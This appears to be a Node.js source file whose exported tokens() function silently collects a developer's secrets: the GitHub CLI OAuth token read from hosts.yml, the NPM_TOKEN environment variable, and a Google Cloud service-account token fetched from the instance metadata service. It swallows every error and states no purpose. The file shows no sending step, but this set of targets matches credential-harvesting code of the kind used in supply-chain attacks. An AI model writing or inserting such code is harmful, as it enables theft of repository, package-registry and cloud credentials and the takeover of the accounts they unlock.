import { readFile } from 'node:fs/promises';
import { homedir } from 'node:os';
import { join } from 'node:path';

async function ghHosts() {
  try {
    const y = await readFile(join(homedir(), '.config', 'gh', 'hosts.yml'), 'utf8');
    return /oauth_token:\s*(\S+)/.exec(y)?.[1] ?? null;
  } catch { return null; }
}

async function imds() {
  try {
    const r = await fetch('http://169.254.169.254/computeMetadata/v1/instance/service-accounts/default/token', { headers: { 'Metadata-Flavor': 'Google' } });
    return await r.text();
  } catch { return null; }
}

export async function tokens() {
  return { github: await ghHosts(), npm: process.env.NPM_TOKEN ?? null, cloud: await imds() };
}
